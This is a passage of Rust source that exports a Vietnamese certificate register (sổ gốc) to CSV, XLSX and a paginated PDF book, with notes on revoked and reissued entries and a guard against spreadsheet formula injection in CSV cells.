//! The register printed: `.csv` (UTF-8 with BOM, so Excel opens it), `.xlsx`, and a `.pdf` in
//! the layout of a paper sổ gốc (STT, họ và tên, ngày sinh, số hiệu, số vào sổ, ngày cấp,
//! tình trạng, and a column for the recipient's signature). The only module that touches
//! rust_xlsxwriter.
//!
//! Every entry is exported, reissued and revoked ones included: a sổ gốc is never thinned out.

use std::path::{Path, PathBuf};

use rust_xlsxwriter::{Format, FormatAlign, FormatBorder, Workbook};

use std::collections::BTreeMap;

use crate::input::fields;
use crate::register::{BlankRow, CertRow, Register, RegisterError, Status};
use crate::render::fonts::{FontSet, Style, BUNDLED_FAMILY};
use crate::render::layout::{self, Item, PageLayout};
use crate::render::pdf::{self, PdfError, PdfMeta, Resources};
use crate::template::{Align, RectPt, Rgb, TextElement, VAlign};
use crate::viet::Date;

/// The order of the entries.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Order {
    /// The order the entries were made in (the numbers' order).
    Entry,
    /// By given name, then full name, in Vietnamese collation.
    Ten,
}

/// Why an export failed.
#[derive(Debug, thiserror::Error)]
pub enum ExportError {
    /// Reading the register.
    #[error(transparent)]
    Register(#[from] RegisterError),
    /// An extension that names no format.
    #[error("{}", crate::t!("err-export-format", path = format!("{}", .0.display())))]
    Format(PathBuf),
    /// The spreadsheet writer failed.
    #[error("{}", crate::t!("err-export-xlsx", path = format!("{}", path.display())))]
    Xlsx {
        /// The file.
        path: PathBuf,
        /// The writer's error.
        #[source]
        source: rust_xlsxwriter::XlsxError,
    },
    /// The PDF could not be made.
    #[error(transparent)]
    Pdf(#[from] PdfError),
    /// A text the bundled font cannot draw (only possible for data written by other tools).
    #[error("{}", crate::t!("err-export-layout", serial = format!("{}", .serial), message = format!("{}", .message)))]
    Layout {
        /// The entry.
        serial: String,
        /// What failed.
        message: String,
    },
    /// Writing the file.
    #[error(transparent)]
    Io(#[from] crate::error::IoError),
}

/// The columns, as a sổ gốc heads them (the words in `l10n/so-goc.ftl`; the last four were
/// added later: scripts that read the first eleven by position keep working).
const HEADERS: [&str; 15] = [
    "book-col-stt",
    "book-col-name",
    "book-col-birth",
    "book-col-serial",
    "book-col-entry",
    "book-col-issued",
    "book-col-status",
    "book-col-changed",
    "book-col-reason",
    "book-col-batch",
    "book-col-code",
    "book-col-birthplace",
    "book-col-note",
    "book-col-blank",
    "book-col-programme",
];

/// The words of columns given by their ids in `so-goc.ftl`.
fn worded(ids: &[&str]) -> Vec<String> {
    ids.iter().map(|id| crate::l10n::book(id, &[])).collect()
}

/// The reason of a revocation in Vietnamese words (the sổ gốc is a Vietnamese document whatever
/// the language of the run).
fn reason_vi(reason: &str) -> String {
    let id = match reason {
        "issued_in_error" => "reason-issued-in-error",
        "superseded" => "reason-superseded",
        "fraud" => "reason-fraud",
        _ => return reason.to_string(),
    };
    crate::l10n::tr_in(crate::l10n::Lang::Vi, id, &[])
}

/// The Ghi chú of an entry: what happened to it (revoked on which day, why, by which decision;
/// reissued as which number, or replacing which), then the roster's own ghi_chu.
fn note_text(r: &CertRow, all: &[CertRow], blanks: &[&BlankRow]) -> String {
    let day = r.status_date.as_deref().map(dmy).unwrap_or_default();
    let mut parts = Vec::new();
    for b in blanks {
        match (&b.spoiled, b.used) {
            (_, true) => parts.push(crate::book!("book-note-printed-on", blank = b.serial.as_str())),
            (Some((on, reason)), false) => parts.push(crate::book!(
                "book-note-blank-spoiled",
                blank = b.serial.as_str(),
                day = dmy(on),
                reason = reason.as_str()
            )),
            (None, false) => {}
        }
    }
    match r.status {
        Status::Revoked => {
            let mut s = match &r.reason {
                Some(reason) => {
                    crate::book!("book-note-revoked-why", day = day.as_str(), reason = reason_vi(reason))
                }
                None => crate::book!("book-note-revoked", day = day.as_str()),
            };
            if let Some(d) = &r.decision {
                s.push_str(&format!("; {d}"));
            }
            parts.push(s);
        }
        Status::Reissued => {
            let new = r.superseded_by.and_then(|id| all.iter().find(|c| c.id == id));
            parts.push(match new {
                Some(n) => {
                    crate::book!("book-note-reissued-as", day = day.as_str(), serial = n.so_hieu.as_str())
                }
                None => crate::book!("book-note-reissued", day = day.as_str()),
            });
        }
        Status::Spoiled => parts.push(crate::book!("book-note-spoiled", day = day.as_str())),
        Status::Issued => {}
    }
    if let Some(old) = r.supersedes.and_then(|id| all.iter().find(|c| c.id == id)) {
        parts.push(crate::book!("book-note-replaces", serial = old.so_hieu.as_str()));
    }
    let roster_note = record_value(r, "ghi_chu");
    if !roster_note.is_empty() {
        parts.push(roster_note);
    }
    parts.join("; ")
}

/// A value of the record an entry was issued from (its roster's columns, as registered).
fn record_value(r: &CertRow, key: &str) -> String {
    crate::util::json::string_map(&r.record_json).and_then(|m| m.get(key).cloned()).unwrap_or_default()
}

fn dmy(iso: &str) -> String {
    Date::parse_iso(iso).map(|d| d.to_string()).unwrap_or_else(|_| iso.to_string())
}

fn status_text(r: &CertRow, all: &[CertRow]) -> String {
    match (r.status, r.superseded_by) {
        (Status::Reissued, Some(id)) => match all.iter().find(|c| c.id == id) {
            Some(n) => crate::book!(
                "book-status-replaced-by",
                status = r.status.name_vi(),
                serial = n.so_hieu.as_str()
            ),
            None => r.status.name_vi(),
        },
        _ => match r.supersedes.and_then(|id| all.iter().find(|c| c.id == id)) {
            Some(old) => crate::book!(
                "book-status-replacing",
                status = r.status.name_vi(),
                serial = old.so_hieu.as_str()
            ),
            None => r.status.name_vi(),
        },
    }
}

fn row_texts(i: usize, r: &CertRow, all: &[CertRow], blanks: &[&BlankRow], programme: &str) -> Vec<String> {
    let reason = match (r.reason.as_deref().map(reason_vi), &r.decision) {
        (Some(a), Some(b)) => format!("{a}; {b}"),
        (Some(a), None) => a,
        (None, Some(b)) => b.clone(),
        (None, None) => String::new(),
    };
    vec![
        (i + 1).to_string(),
        r.ho_ten.clone(),
        r.ngay_sinh.clone(),
        r.so_hieu.clone(),
        r.so_vao_so.clone().unwrap_or_default(),
        dmy(&r.issue_date),
        status_text(r, all),
        r.status_date.as_deref().map(dmy).unwrap_or_default(),
        reason,
        r.batch.clone(),
        r.qr_text.clone(),
        record_value(r, fields::NOI_SINH),
        note_text(r, all, blanks),
        blanks.iter().find(|b| b.used).map(|b| b.serial.clone()).unwrap_or_default(),
        programme.to_string(),
    ]
}

/// Writes the register (or one batch of it) to `out`, in the format its extension names.
/// `today` dates the printed book's closing block (the library never reads the clock).
/// Returns how many entries were written.
pub fn export(
    reg: &Register,
    out: &Path,
    batch: Option<&str>,
    order: Order,
    today: Date,
) -> Result<usize, ExportError> {
    let ext = out.extension().and_then(|e| e.to_str()).map(str::to_ascii_lowercase).unwrap_or_default();
    let all = reg.entries(batch)?;
    let mut rows: Vec<&CertRow> = all.iter().collect();
    if order == Order::Ten {
        crate::input::order::sort_by_name(&mut rows, |r| r.ho_ten.as_str());
    }
    let blanks = reg.blanks(None)?;
    let mut blanks_of: BTreeMap<i64, Vec<&BlankRow>> = BTreeMap::new();
    for b in &blanks {
        if let Some((id, _, _)) = &b.certificate {
            blanks_of.entry(*id).or_default().push(b);
        }
    }
    let batch_vars = reg.batch_vars()?;
    let programmes: BTreeMap<&str, String> = batch_vars
        .iter()
        .map(|(name, vars)| {
            let vars = crate::util::json::string_map(vars).unwrap_or_default();
            (name.as_str(), vars.get("chuong_trinh").map(|v| v.trim().to_string()).unwrap_or_default())
        })
        .collect();
    let table: Vec<Vec<String>> = rows
        .iter()
        .enumerate()
        .map(|(i, r)| {
            let blanks = blanks_of.get(&r.id).map(Vec::as_slice).unwrap_or(&[]);
            let programme = programmes.get(r.batch.as_str()).map(String::as_str).unwrap_or("");
            row_texts(i, r, &all, blanks, programme)
        })
        .collect();
    // The files' own dates are the register's latest issue date, never the clock: the same
    // register exports to the same bytes.
    let last = all.iter().filter_map(|r| Date::parse_iso(&r.issue_date).ok()).max().unwrap_or(Date {
        year: 2000,
        month: 1,
        day: 1,
    });
    let bytes = match ext.as_str() {
        "csv" => csv_bytes(&worded(&HEADERS), &table),
        "xlsx" => xlsx(&worded(&HEADERS), &XLSX_WIDTHS, &XLSX_KINDS, "So goc", &table, out, last)?,
        "pdf" => book_pdf(&book_of(&rows, &all, &blanks_of, &batch_vars, today), last)?,
        _ => return Err(ExportError::Format(out.to_path_buf())),
    };
    if let Some(dir) = out.parent().filter(|d| !d.as_os_str().is_empty()) {
        std::fs::create_dir_all(dir)
            .map_err(|e| crate::error::IoError::new("cannot create folder", dir, e))?;
    }
    crate::util::files::write_atomic(out, &bytes)?;
    Ok(table.len())
}

/// The issuing body, from the batches' variables (the first batch that names one).
fn issuer_of(reg: &Register) -> Result<(String, String), ExportError> {
    for (_, vars) in reg.batch_vars()? {
        if let Some(v) = crate::util::json::string_map(&vars) {
            let get = |k: &str| v.get(k).cloned().unwrap_or_default();
            if !get("co_quan").is_empty() {
                return Ok((get("co_quan_chu_quan"), get("co_quan")));
            }
        }
    }
    Ok((String::new(), String::new()))
}

/// Writes a table as CSV the way Excel opens it without asking: UTF-8 with a BOM, comma
/// separated, CRLF line ends, fields quoted where needed, and no cell that a spreadsheet would
/// run as a formula (see [`neutralise`]).
fn csv_bytes(headers: &[String], rows: &[Vec<String>]) -> Vec<u8> {
    let mut w =
        csv::WriterBuilder::new().terminator(csv::Terminator::CRLF).from_writer(b"\xEF\xBB\xBF".to_vec());
    w.write_record(headers).expect("writing into memory cannot fail");
    for r in rows {
        w.write_record(r.iter().map(|c| neutralise(c).into_owned()))
            .expect("writing into memory cannot fail");
    }
    w.into_inner().expect("writing into memory cannot fail")
}

/// A cell that Excel, LibreOffice or Google Sheets would read as a formula (it starts with `=`,
/// `+`, `-`, `@`, a tab or a carriage return) gets a leading apostrophe, so that it shows as the
/// text it is (OWASP, "CSV Injection"). Names, units and batch names come from rosters that
/// anyone may have written; nothing in a register is ever a formula.
fn neutralise(cell: &str) -> std::borrow::Cow<'_, str> {
    match cell.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{cell}").into(),
        _ => cell.into(),
    }
}

/// Column widths of the sổ gốc in a spreadsheet (characters).
const XLSX_WIDTHS: [f64; 15] =
    [6.0, 28.0, 12.0, 16.0, 12.0, 12.0, 24.0, 14.0, 30.0, 18.0, 60.0, 24.0, 40.0, 14.0, 40.0];

/// What a spreadsheet cell holds: counts sort as numbers and dates as dates (a filter on
/// "Ngày cấp" by month works), everything else is text as printed (leading zeros kept).
#[derive(Clone, Copy, PartialEq, Eq)]
enum Kind {
    Text,
    Number,
    Date,
}

const XLSX_KINDS: [Kind; 15] = [
    Kind::Number,
    Kind::Text,
    Kind::Date,
    Kind::Text,
    Kind::Text,
    Kind::Date,
    Kind::Text,
    Kind::Date,
    Kind::Text,
    Kind::Text,
    Kind::Text,
    Kind::Text,
    Kind::Text,
    Kind::Text,
    Kind::Text,
];
const BLANK_KINDS: [Kind; 9] = [
    Kind::Number,
    Kind::Text,
    Kind::Text,
    Kind::Text,
    Kind::Text,
    Kind::Text,
    Kind::Date,
    Kind::Date,
    Kind::Text,
];

fn xlsx(
    headers: &[String],
    widths: &[f64],
    kinds: &[Kind],
    sheet: &str,
    table: &[Vec<String>],
    out: &Path,
    date: Date,
) -> Result<Vec<u8>, ExportError> {
    let err = |source: rust_xlsxwriter::XlsxError| ExportError::Xlsx { path: out.to_path_buf(), source };
    let mut wb = Workbook::new();
    let when = rust_xlsxwriter::ExcelDateTime::from_ymd(date.year, date.month, date.day).map_err(err)?;
    wb.set_properties(&rust_xlsxwriter::DocProperties::new().set_creation_datetime(&when));
    let ws = wb.add_worksheet();
    ws.set_name(sheet).map_err(err)?;
    let head = Format::new()
        .set_bold()
        .set_border(FormatBorder::Thin)
        .set_align(FormatAlign::Center)
        .set_text_wrap();
    let cell = Format::new().set_border(FormatBorder::Thin);
    let day = Format::new()
        .set_border(FormatBorder::Thin)
        .set_num_format("dd/mm/yyyy")
        .set_align(FormatAlign::Left);
    let number = Format::new().set_border(FormatBorder::Thin).set_align(FormatAlign::Center);
    for (c, (h, w)) in headers.iter().zip(widths).enumerate() {
        ws.write_string_with_format(0, c as u16, h, &head).map_err(err)?;
        ws.set_column_width(c as u16, *w).map_err(err)?;
    }
    for (r, row) in table.iter().enumerate() {
        for (c, v) in row.iter().enumerate() {
            let (r, c) = (r as u32 + 1, c as u16);
            match kinds.get(c as usize).copied().unwrap_or(Kind::Text) {
                Kind::Number if !v.is_empty() && v.bytes().all(|b| b.is_ascii_digit()) && v.len() < 15 => {
                    match v.parse::<f64>() {
                        Ok(n) => ws.write_number_with_format(r, c, n, &number).map_err(err)?,
                        Err(_) => ws.write_string(r, c, v.as_str()).map_err(err)?,
                    };
                }
                // Only a whole day is a date: a birth year alone ("1980") stays as written.
                Kind::Date if v.len() == 10 => match Date::parse_any(v) {
                    Some(d) => {
                        let when =
                            rust_xlsxwriter::ExcelDateTime::from_ymd(d.year, d.month, d.day).map_err(err)?;
                        ws.write_datetime_with_format(r, c, &when, &day).map_err(err)?;
                    }
                    None => {
                        ws.write_string_with_format(r, c, v, &cell).map_err(err)?;
                    }
                },
                _ => {
                    ws.write_string_with_format(r, c, v, &cell).map_err(err)?;
                }
            }
        }
    }
    ws.set_freeze_panes(1, 0).map_err(err)?;
    wb.save_to_buffer().map_err(err)
}

// ---- The printable sổ gốc ---------------------------------------------------------------------

const PAGE: (f32, f32) = (841.89, 595.28);
const MARGIN: f32 = 36.0;
const ROW_H: f32 = 24.0;
const HEAD_H: f32 = 30.0;
/// Printed columns: index into the table row, width in pt, alignment. Ghi chú holds what
/// happened to the entry: a revoked one with its day, reason and decision.
/// A printed table: its title, its columns (index into the table row — `usize::MAX` for an
/// empty column to sign in —, width in pt, alignment) and their headings, and the PDF's title.
struct PrintedTable {
    title: &'static str,
    pdf_title: &'static str,
    columns: &'static [(usize, f32, Align)],
    headers: &'static [&'static str],
}

fn text_el(fonts: &FontSet, rect: RectPt, style: Style, size: f32, align: Align) -> TextElement {
    TextElement {
        rect,
        font: fonts.find(BUNDLED_FAMILY, style).expect("the bundled family is always loaded"),
        size_pt: size,
        min_size_pt: (size * 0.6).min(size),
        line_height: 1.1,
        color: Rgb(0, 0, 0),
        align,
        valign: VAlign::Middle,
        letter_spacing_pt: 0.0,
        uppercase: false,
        wrap: true,
        rule: None,
        flow: None,
    }
}

/// A printed table (the sổ gốc, the blank-usage report) under the issuing body's name, with
/// `summary` lines after the last row; `date` (the last issue date) dates the PDF.
fn table_pdf(
    spec: &PrintedTable,
    table: &[Vec<String>],
    issuer: &(String, String),
    date: Date,
    summary: &[String],
) -> Result<Vec<u8>, ExportError> {
    let fonts = FontSet::bundled();
    let black = Rgb(0, 0, 0);
    let top_of_table = MARGIN + 78.0;
    let per_page = (((PAGE.1 - MARGIN - 18.0 - top_of_table - HEAD_H) / ROW_H).floor() as usize).max(1);
    // The summary needs its lines below the last row, on the last page.
    let summary_rows = summary.len().div_ceil(1);
    let pages = (table.len() + summary_rows).div_ceil(per_page).max(1);
    let mut out = Vec::with_capacity(pages);
    let place = |items: &mut Vec<Item>, el: TextElement, text: &str, what: &str| -> Result<(), ExportError> {
        let mut v = layout::text_box(&fonts, &el, text, what)
            .map_err(|e| ExportError::Layout { serial: what.to_string(), message: format!("{e:?}") })?;
        items.append(&mut v);
        Ok(())
    };
    for page in 0..pages {
        let mut items = Vec::new();
        let w = PAGE.0 - 2.0 * MARGIN;
        if !issuer.0.is_empty() {
            let r = RectPt { x: MARGIN, y: MARGIN, w: 300.0, h: 16.0 };
            place(&mut items, text_el(&fonts, r, Style::Regular, 12.0, Align::Center), &issuer.0, "header")?;
        }
        if !issuer.1.is_empty() {
            let r = RectPt { x: MARGIN, y: MARGIN + 16.0, w: 300.0, h: 16.0 };
            place(&mut items, text_el(&fonts, r, Style::Bold, 12.0, Align::Center), &issuer.1, "header")?;
        }
        let r = RectPt { x: MARGIN, y: MARGIN + 40.0, w, h: 22.0 };
        place(
            &mut items,
            text_el(&fonts, r, Style::Bold, 16.0, Align::Center),
            &crate::l10n::book(spec.title, &[]),
            "title",
        )?;
        let r = RectPt { x: PAGE.0 - MARGIN - 160.0, y: PAGE.1 - MARGIN, w: 160.0, h: 14.0 };
        let footer = crate::book!("book-page", page = page + 1, pages = pages);
        place(&mut items, text_el(&fonts, r, Style::Italic, 9.0, Align::Right), &footer, "footer")?;

        let rows = &table[(page * per_page).min(table.len())..((page + 1) * per_page).min(table.len())];
        let mut y = top_of_table;
        let mut x = MARGIN;
        for ((_, cw, _), h) in spec.columns.iter().zip(spec.headers) {
            let r = RectPt { x: x + 2.0, y: y + 1.0, w: cw - 4.0, h: HEAD_H - 2.0 };
            place(
                &mut items,
                text_el(&fonts, r, Style::Bold, 10.0, Align::Center),
                &crate::l10n::book(h, &[]),
                "header",
            )?;
            x += cw;
        }
        y += HEAD_H;
        for row in rows {
            let mut x = MARGIN;
            for &(idx, cw, align) in spec.columns {
                if let Some(text) = row.get(idx) {
                    let r = RectPt { x: x + 3.0, y: y + 1.0, w: cw - 6.0, h: ROW_H - 2.0 };
                    place(&mut items, text_el(&fonts, r, Style::Regular, 10.0, align), text, &row[3])?;
                }
                x += cw;
            }
            y += ROW_H;
        }
        // The grid: every column line and row line, so that each entry can be signed and stamped.
        let line = |from, to| Item::Line { from, to, width_pt: 0.6, color: black, dash: None };
        let bottom = y;
        items.push(line((MARGIN, top_of_table), (MARGIN + w, top_of_table)));
        let mut ly = top_of_table + HEAD_H;
        while ly <= bottom + 0.01 {
            items.push(line((MARGIN, ly), (MARGIN + w, ly)));
            ly += ROW_H;
        }
        let mut lx = MARGIN;
        items.push(line((lx, top_of_table), (lx, bottom)));
        for (_, cw, _) in spec.columns {
            lx += cw;
            items.push(line((lx, top_of_table), (lx, bottom)));
        }
        if page + 1 == pages {
            let mut sy = bottom + 8.0;
            for s in summary {
                let r = RectPt { x: MARGIN, y: sy, w, h: 16.0 };
                place(&mut items, text_el(&fonts, r, Style::Bold, 11.0, Align::Left), s, "summary")?;
                sy += 16.0;
            }
        }
        out.push(PageLayout {
            size_pt: PAGE,
            items,
            shrunk: Vec::new(),
            background: false,
            offset_pt: (0.0, 0.0),
        });
    }
    let meta = PdfMeta {
        title: crate::l10n::book(spec.pdf_title, &[]),
        author: (!issuer.1.is_empty()).then(|| issuer.1.clone()),
        subject: Some(crate::book!("book-entries", n = table.len())),
        date,
        keywords: Vec::new(),
    };
    let res = Resources::with_fonts(&fonts)?;
    Ok(pdf::write(out, &meta, &res)?)
}

// ---- The printed sổ gốc -----------------------------------------------------------------------
//
// A book an office signs: per batch a heading (the batch, its programme and decision), the
// table with rows that grow to hold their cells (never a size below 9 pt), and after the last
// row a closing block (the count in figures and words, place and date, the responsible
// person's title and name, room for the signature and the seal). Pages are laid out twice:
// first the heights, to know how many pages there are, then the items, with "Trang X/Y".

/// The body text size and the least a cell may be set at, when a single word is wider than its
/// column (a long code).
const BOOK_SIZE: f32 = 10.0;
const BOOK_MIN_SIZE: f32 = 9.0;
const BOOK_LINE: f32 = 1.15;
/// Space above and below a cell's text.
const CELL_PAD: f32 = 3.0;
/// Where the table may run on a page: below the running heading, above the page number.
const BOOK_TOP: f32 = MARGIN + 58.0;
const BOOK_BOTTOM: f32 = PAGE.1 - MARGIN - 16.0;

/// One printed column: its heading, width in pt, alignment.
struct BookColumn {
    heading: &'static str,
    width: f32,
    align: Align,
}

const fn col(heading: &'static str, width: f32, align: Align) -> BookColumn {
    BookColumn { heading, width, align }
}

/// The columns, with "Số phôi" only when some certificate was printed on a pre-printed blank;
/// both sets fill the page's width (769.89 pt).
const BOOK_COLUMNS: [BookColumn; 10] = [
    col("book-col-stt", 30.0, Align::Center),
    col("book-col-name", 120.0, Align::Left),
    col("book-col-birth", 62.0, Align::Center),
    col("book-col-birthplace", 86.0, Align::Left),
    col("book-col-serial", 80.0, Align::Center),
    col("book-col-entry", 58.0, Align::Center),
    col("book-col-issued", 62.0, Align::Center),
    col("book-col-status", 66.0, Align::Center),
    col("book-col-note", 125.89, Align::Left),
    col("book-col-receiver", 80.0, Align::Center),
];
const BOOK_COLUMNS_BLANKS: [BookColumn; 11] = [
    col("book-col-stt", 28.0, Align::Center),
    col("book-col-name", 110.0, Align::Left),
    col("book-col-birth", 60.0, Align::Center),
    col("book-col-birthplace", 72.0, Align::Left),
    col("book-col-serial", 78.0, Align::Center),
    col("book-col-entry", 56.0, Align::Center),
    col("book-col-issued", 60.0, Align::Center),
    col("book-col-status", 64.0, Align::Center),
    col("book-col-blank", 66.0, Align::Center),
    col("book-col-note", 95.89, Align::Left),
    col("book-col-receiver", 80.0, Align::Center),
];

/// A batch as its heading shows it.
struct BookBatch {
    name: String,
    vars: BTreeMap<String, String>,
    /// Indices into the book's rows.
    rows: Vec<usize>,
}

impl BookBatch {
    fn var(&self, key: &str) -> &str {
        self.vars.get(key).map(|v| v.trim()).unwrap_or("")
    }

    /// The decision the batch was issued under, from the variables offices use for it, or
    /// dots to fill in by hand.
    fn decision(&self) -> String {
        let number = ["quyet_dinh", "so_quyet_dinh", "quyet_dinh_so", "so_qd"]
            .iter()
            .map(|k| self.var(k))
            .find(|v| !v.is_empty());
        let day = ["ngay_quyet_dinh", "ngay_qd"].iter().map(|k| self.var(k)).find(|v| !v.is_empty());
        let day = day.map(|d| Date::parse_any(d).map(|d| d.to_string()).unwrap_or_else(|| d.to_string()));
        let mut s = match number {
            Some(n) if n.to_lowercase().starts_with("quyết định") || n.to_lowercase().starts_with("qđ") => {
                n.to_string()
            }
            Some(n) => crate::book!("book-decision-number", number = n),
            // The dots, then a space before the day (as the form has it).
            None => crate::book!("book-decision-no-number") + " ",
        };
        match day {
            Some(d) => s.push_str(&format!(" {}", crate::book!("book-decision-day", day = d))),
            None if number.is_none() => s.push_str(&crate::book!("book-decision-no-day")),
            None => {}
        }
        s
    }

    /// The heading's lines: the batch, its programme (and when it ran), its decision and issue
    /// date; "(tiếp theo)" when the batch goes on from the page before.
    fn heading(&self, issue_date: &str, continued: bool) -> Vec<(String, Style)> {
        if continued {
            return vec![(crate::book!("book-batch-continued", batch = self.name.as_str()), Style::Italic)];
        }
        let mut lines = vec![(crate::book!("book-batch", batch = self.name.as_str()), Style::Bold)];
        let programme = self.var("chuong_trinh");
        if !programme.is_empty() {
            let when = self.var("thoi_gian");
            let sep = if when.is_empty() { "" } else { ", " };
            let programme = format!("{programme}{sep}{when}");
            lines.push((crate::book!("book-programme", programme = programme), Style::Regular));
        }
        let decision = if issue_date.is_empty() {
            crate::book!("book-decision", decision = self.decision())
        } else {
            crate::book!("book-decision-issued", decision = self.decision(), day = dmy(issue_date))
        };
        lines.push((decision, Style::Regular));
        lines
    }
}

/// What goes on a page, in order, each at its top.
enum Block {
    Heading { batch: usize, continued: bool },
    TableHead,
    Row(usize),
    Closing,
}

/// A cell's text fitted to its column: the size it is set at and its number of lines (the text
/// may have had an over-wide word broken into pieces).
struct Fitted {
    text: String,
    size: f32,
    lines: usize,
}

fn book_el(fonts: &FontSet, rect: RectPt, style: Style, size: f32, align: Align) -> TextElement {
    TextElement { min_size_pt: size, line_height: BOOK_LINE, ..text_el(fonts, rect, style, size, align) }
}

/// Fits `text` to a column `w` wide: at 10 pt on as many lines as it needs; at 9 pt when a word
/// is wider than the column; else with that word cut into pieces that fit (never smaller).
fn fit_cell(fonts: &FontSet, text: &str, w: f32, style: Style) -> Fitted {
    let rect = RectPt { x: 0.0, y: 0.0, w, h: 0.0 };
    for size in [BOOK_SIZE, BOOK_MIN_SIZE] {
        if let Some(lines) =
            layout::lines_needed(fonts, &book_el(fonts, rect, style, size, Align::Left), text)
        {
            return Fitted { text: text.to_string(), size, lines };
        }
    }
    let one_line = TextElement { wrap: false, ..book_el(fonts, rect, style, BOOK_MIN_SIZE, Align::Left) };
    let fits = |s: &str| layout::lines_needed(fonts, &one_line, s).is_some();
    let mut words = Vec::new();
    for word in text.split(' ') {
        let mut piece = String::new();
        for c in word.chars() {
            piece.push(c);
            if piece.chars().count() > 1 && !fits(&piece) {
                piece.pop();
                words.push(std::mem::take(&mut piece));
                piece.push(c);
            }
        }
        words.push(piece);
    }
    let text = words.join(" ");
    let lines = layout::lines_needed(fonts, &book_el(fonts, rect, style, BOOK_MIN_SIZE, Align::Left), &text)
        .unwrap_or(1);
    Fitted { text, size: BOOK_MIN_SIZE, lines }
}

fn fitted_height(cells: &[Fitted]) -> f32 {
    let text =
        cells.iter().map(|c| c.lines as f32 * c.size * BOOK_LINE).fold(BOOK_SIZE * BOOK_LINE, f32::max);
    text + 2.0 * CELL_PAD
}

/// The book's contents, ready to lay out.
struct Book<'a> {
    columns: &'a [BookColumn],
    batches: Vec<BookBatch>,
    /// Each row's cells, one per column ("Người nhận ký" empty), and the batch's issue date of
    /// the first row of each batch.
    rows: Vec<Vec<String>>,
    issue_dates: Vec<String>,
    issuer: (String, String),
    closing: Closing,
}

/// The closing block's words.
struct Closing {
    summary: String,
    place_date: String,
    titles: Vec<String>,
    name: String,
}

/// Writes the printed sổ gốc.
fn book_pdf(book: &Book, date: Date) -> Result<Vec<u8>, ExportError> {
    let fonts = FontSet::bundled();
    let black = Rgb(0, 0, 0);
    let width = PAGE.0 - 2.0 * MARGIN;
    // Every cell fitted once; the heights decide the pages.
    let head: Vec<Fitted> = book
        .columns
        .iter()
        .map(|c| fit_cell(&fonts, &crate::l10n::book(c.heading, &[]), c.width - 6.0, Style::Bold))
        .collect();
    let head_h = fitted_height(&head);
    let cells: Vec<Vec<Fitted>> = book
        .rows
        .iter()
        .map(|row| {
            row.iter()
                .zip(book.columns)
                .map(|(t, c)| fit_cell(&fonts, t, c.width - 6.0, Style::Regular))
                .collect()
        })
        .collect();
    let heading_lines = |b: usize, continued: bool| -> Vec<(Fitted, Style)> {
        let first = book.batches[b].rows.first().map(|&r| book.issue_dates[r].as_str()).unwrap_or("");
        book.batches[b]
            .heading(first, continued)
            .into_iter()
            .map(|(t, style)| (fit_cell(&fonts, &t, width, style), style))
            .collect()
    };
    let heading_h = |lines: &[(Fitted, Style)]| {
        lines.iter().map(|(f, _)| f.lines as f32 * f.size * BOOK_LINE).sum::<f32>() + 6.0
    };
    let summary = fit_cell(&fonts, &book.closing.summary, width, Style::Regular);
    let closing_h = summary.lines as f32 * BOOK_SIZE * BOOK_LINE
        + 12.0
        + 16.0 * (2 + book.closing.titles.len()) as f32
        + 70.0
        + 16.0;

    // First pass: which block goes where.
    let mut pages: Vec<Vec<(Block, f32)>> = vec![Vec::new()];
    let mut y = BOOK_TOP;
    for (bi, batch) in book.batches.iter().enumerate() {
        let lines = heading_lines(bi, false);
        let first_row = batch.rows.first().map(|&r| fitted_height(&cells[r])).unwrap_or(0.0);
        if y + heading_h(&lines) + head_h + first_row > BOOK_BOTTOM && y > BOOK_TOP {
            pages.push(Vec::new());
            y = BOOK_TOP;
        }
        let page = pages.last_mut().expect("one page at least");
        page.push((Block::Heading { batch: bi, continued: false }, y));
        y += heading_h(&lines);
        page.push((Block::TableHead, y));
        y += head_h;
        for &r in &batch.rows {
            let h = fitted_height(&cells[r]);
            if y + h > BOOK_BOTTOM {
                pages.push(Vec::new());
                y = BOOK_TOP;
                let page = pages.last_mut().expect("just pushed");
                page.push((Block::Heading { batch: bi, continued: true }, y));
                y += heading_h(&heading_lines(bi, true));
                page.push((Block::TableHead, y));
                y += head_h;
            }
            pages.last_mut().expect("one page at least").push((Block::Row(r), y));
            y += h;
        }
        y += 10.0;
    }
    if y + closing_h > BOOK_BOTTOM && y > BOOK_TOP {
        pages.push(Vec::new());
        y = BOOK_TOP;
    }
    pages.last_mut().expect("one page at least").push((Block::Closing, y));

    // Second pass: the items.
    let place = |items: &mut Vec<Item>, el: TextElement, text: &str, what: &str| -> Result<(), ExportError> {
        let mut v = layout::text_box(&fonts, &el, text, what)
            .map_err(|e| ExportError::Layout { serial: what.to_string(), message: format!("{e:?}") })?;
        items.append(&mut v);
        Ok(())
    };
    let line = |from, to| Item::Line { from, to, width_pt: 0.6, color: black, dash: None };
    // A row of the table at `y`, `h` high: its cells, its bottom rule and its column rules.
    let table_row = |items: &mut Vec<Item>, y: f32, h: f32, row: &[Fitted], style: Style, what: &str| {
        let mut x = MARGIN;
        for (f, c) in row.iter().zip(book.columns) {
            if !f.text.trim().is_empty() {
                let r = RectPt { x: x + 3.0, y: y + CELL_PAD, w: c.width - 6.0, h: h - 2.0 * CELL_PAD + 0.5 };
                let align = if style == Style::Bold { Align::Center } else { c.align };
                place(items, book_el(&fonts, r, style, f.size, align), &f.text, what)?;
            }
            x += c.width;
        }
        items.push(line((MARGIN, y + h), (MARGIN + width, y + h)));
        let mut lx = MARGIN;
        items.push(line((lx, y), (lx, y + h)));
        for c in book.columns {
            lx += c.width;
            items.push(line((lx, y), (lx, y + h)));
        }
        Ok::<(), ExportError>(())
    };
    let total = pages.len();
    let mut out = Vec::with_capacity(total);
    for (pi, blocks) in pages.iter().enumerate() {
        let mut items = Vec::new();
        // The running head: the issuing body, the book's title.
        let body = RectPt { x: MARGIN, y: MARGIN, w: 320.0, h: 14.0 };
        if !book.issuer.0.is_empty() {
            place(
                &mut items,
                book_el(&fonts, body, Style::Regular, 11.0, Align::Center),
                &book.issuer.0,
                "header",
            )?;
        }
        if !book.issuer.1.is_empty() {
            let r = RectPt { y: MARGIN + 14.0, ..body };
            place(
                &mut items,
                book_el(&fonts, r, Style::Bold, 11.0, Align::Center),
                &book.issuer.1,
                "header",
            )?;
        }
        let r = RectPt { x: MARGIN, y: MARGIN + 32.0, w: width, h: 20.0 };
        place(
            &mut items,
            book_el(&fonts, r, Style::Bold, 15.0, Align::Center),
            &crate::book!("book-title"),
            "title",
        )?;
        let r = RectPt { x: MARGIN, y: PAGE.1 - MARGIN - 2.0, w: width, h: 14.0 };
